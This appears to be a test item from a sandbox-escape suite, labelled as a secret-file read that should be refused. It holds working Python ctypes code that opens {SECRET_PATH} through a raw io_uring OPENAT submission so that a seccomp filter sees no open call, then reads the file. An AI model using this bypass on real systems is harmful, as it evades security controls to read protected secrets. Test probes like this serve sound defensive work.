# category: filesystem-read
# signal: secret
# expect: refused
# tripwire: stops ctypes.dlopen
# source: io_uring: the file is opened by the kernel's own worker for an OPENAT entry in a ring, so a seccomp filter that allowed io_uring_setup and io_uring_enter would see no open call at all; then a plain read of the descriptor it returns
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
params = (ctypes.c_uint32 * 30)()
ring = libc.syscall(425, 4, ctypes.byref(params))  # io_uring_setup
sq_entries, cq_entries = params[0], params[1]
sq_off, cq_off = params[10:20], params[20:30]
size = max(sq_off[6] + sq_entries * 4, cq_off[5] + cq_entries * 16)
rings = libc.mmap(None, size, 3, 0x8001, ring, 0)  # MAP_SHARED | MAP_POPULATE
sqes = libc.mmap(None, sq_entries * 64, 3, 0x8001, ring, 0x10000000)
path = ctypes.create_string_buffer(b"{SECRET_PATH}")
entry = (ctypes.c_uint8 * 64).from_address(sqes)
ctypes.memset(sqes, 0, 64)
entry[0] = 18  # IORING_OP_OPENAT
ctypes.c_int32.from_address(sqes + 4).value = -100  # AT_FDCWD
ctypes.c_uint64.from_address(sqes + 16).value = ctypes.addressof(path)
tail = ctypes.c_uint32.from_address(rings + sq_off[1])
mask = ctypes.c_uint32.from_address(rings + sq_off[2]).value
ctypes.c_uint32.from_address(rings + sq_off[6] + 4 * (tail.value & mask)).value = 0
tail.value += 1
libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter, waiting for the completion
head = ctypes.c_uint32.from_address(rings + cq_off[0]).value
cq_mask = ctypes.c_uint32.from_address(rings + cq_off[2]).value
opened = ctypes.c_int32.from_address(rings + cq_off[5] + 16 * (head & cq_mask) + 8).value
buffer = ctypes.create_string_buffer(4096)
count = libc.read(opened, buffer, 4096)
return buffer.raw[:max(count, 0)].decode("latin-1")
